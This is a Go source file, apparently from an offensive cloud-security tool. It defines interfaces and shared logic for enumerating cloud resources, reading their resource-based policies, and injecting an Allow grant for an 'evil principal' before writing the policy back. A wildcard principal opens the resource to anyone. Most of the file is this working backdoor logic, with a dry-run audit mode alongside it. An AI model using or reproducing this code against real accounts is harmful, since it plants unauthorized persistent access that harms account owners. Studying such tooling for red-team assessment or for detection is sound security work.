// Package exposure defines the resource-kind contract for auditing and
// backdooring resource-based policies: enumerate resources of a kind, read
// a resource's policy, inject a grant for a chosen principal, and write
// the mutated policy back.
package exposure

import (
	"context"

	"github.com/hashicorp/go-hclog"

	"github.com/hotpatch-sec/creel/internal/policy"
)

// Flags configures how a resource kind's policies are mutated. Values are
// fixed per kind at construction and never change over an instance's
// lifetime.
type Flags struct {
	// IncludeResourceBlock controls whether the injected statement names
	// the victim ARN in a Resource block. Trust-style kinds (and others
	// whose policies bind implicitly to the resource) reject a Resource
	// block, so the block is omitted for them.
	IncludeResourceBlock bool
	// OverrideAction replaces the default "<service>:*" grant with a
	// specific verb, e.g. the assumption verb for identity roles.
	OverrideAction string
	// OverrideResourceBlock replaces the victim ARN in the Resource block
	// with kind-specific entries (e.g. bucket and bucket/* for object
	// stores, or "*" for account-level policies).
	OverrideResourceBlock []string
	// OverrideAccountIDInsteadOfPrincipal formats the grant principal as a
	// bare account id. Some kinds reject principal ARNs.
	OverrideAccountIDInsteadOfPrincipal bool
}

// DefaultFlags is the configuration for kinds without quirks: wildcard
// action over the kind's own service, Resource block naming the victim.
func DefaultFlags() Flags {
	return Flags{IncludeResourceBlock: true}
}

// Resource is one concrete addressable resource of some kind.
type Resource interface {
	// ARN is the canonical address of the resource, built with the kind's
	// addressing rule.
	ARN() string
	// GetPolicy fetches the current policy. It never returns a nil or
	// structurally invalid document: absence and failure both yield the
	// empty baseline with Success()==false.
	GetPolicy(ctx context.Context) PolicyReadResult
	// Backdoor returns a copy of doc with one additional Allow statement
	// granting the evil principal access, shaped by the kind's flags.
	Backdoor(doc policy.Document, evilPrincipal, sid string) policy.Document
	// SetPolicy writes the mutated document back. Provider rejections are
	// reported in the result, never raised.
	SetPolicy(ctx context.Context, evil policy.Document) MutationResult
	// DryRunResult builds the audit record for a mutation that was
	// computed but deliberately not written.
	DryRunResult(evil policy.Document) MutationResult
}

// Catalog is the kind-level capability: enumerate all resources of the
// kind visible to the current credentials, and hydrate an instance by
// name.
type Catalog interface {
	Service() string
	ResourceType() string
	Enumerate(ctx context.Context) ([]ListedResource, error)
	Lookup(name string) Resource
}

// Base carries the identity, flags, and shared mutation behavior every
// kind instance embeds. Kind constructors fill it in; the embedding type
// implements GetPolicy and SetPolicy against its own provider API.
type Base struct {
	Name         string
	Region       string
	AccountID    string
	Service      string
	ResourceType string
	ResourceARN  string
	Flags        Flags
	Log          hclog.Logger

	// Original is the policy as last read, retained for inclusion in
	// mutation results so callers can diff even on failure.
	Original policy.Document
}

// ARN returns the canonical resource address.
func (b *Base) ARN() string {
	return b.ResourceARN
}

// Backdoor appends one Allow statement for evilPrincipal to doc. Existing
// statements are never replaced or reordered; the grant is shaped by the
// instance's flags so callers need no kind-specific knowledge.
func (b *Base) Backdoor(doc policy.Document, evilPrincipal, sid string) policy.Document {
	action := b.Flags.OverrideAction
	if action == "" {
		action = b.Service + ":*"
	}

	stmt := policy.Statement{
		Sid:    sid,
		Effect: "Allow",
		Action: policy.NewValue(action),
	}

	switch {
	case b.Flags.OverrideAccountIDInsteadOfPrincipal && evilPrincipal != "*":
		stmt.Principal = policy.AWSPrincipal(policy.AccountIDOf(evilPrincipal))
	case evilPrincipal == "*":
		stmt.Principal = policy.AnyPrincipal()
	default:
		stmt.Principal = policy.AWSPrincipal(evilPrincipal)
	}

	if b.Flags.IncludeResourceBlock {
		resources := b.Flags.OverrideResourceBlock
		if len(resources) == 0 {
			resources = []string{b.ResourceARN}
		}
		stmt.Resource = policy.NewValue(resources...)
	}

	return doc.WithStatement(stmt)
}

// ReadResult records the document as the instance's original policy and
// wraps it for return from GetPolicy.
func (b *Base) ReadResult(doc policy.Document, state PolicyReadState) PolicyReadResult {
	b.Original = doc
	return PolicyReadResult{Policy: doc, State: state}
}

// WriteResult builds the audit record for a SetPolicy attempt. A nil err
// is a success; otherwise the provider's error text becomes the message
// and the failure is logged.
func (b *Base) WriteResult(err error, updated policy.Document) MutationResult {
	res := MutationResult{
		Message:        MessageSuccess,
		Operation:      "set_policy",
		Success:        true,
		VictimARN:      b.ResourceARN,
		OriginalPolicy: b.Original,
		UpdatedPolicy:  updated,
		ResourceType:   b.ResourceType,
		ResourceName:   b.Name,
		Service:        b.Service,
	}
	if err != nil {
		res.Success = false
		res.Message = err.Error()
		if b.Log != nil {
			b.Log.Error("policy write rejected",
				"arn", b.ResourceARN, "error", err)
		}
	}
	return res
}

// DryRunResult builds the audit record for a mutation computed but not
// submitted.
func (b *Base) DryRunResult(evil policy.Document) MutationResult {
	return MutationResult{
		Message:        "dry-run",
		Operation:      "dry_run",
		Success:        true,
		VictimARN:      b.ResourceARN,
		OriginalPolicy: b.Original,
		UpdatedPolicy:  evil,
		ResourceType:   b.ResourceType,
		ResourceName:   b.Name,
		Service:        b.Service,
	}
}
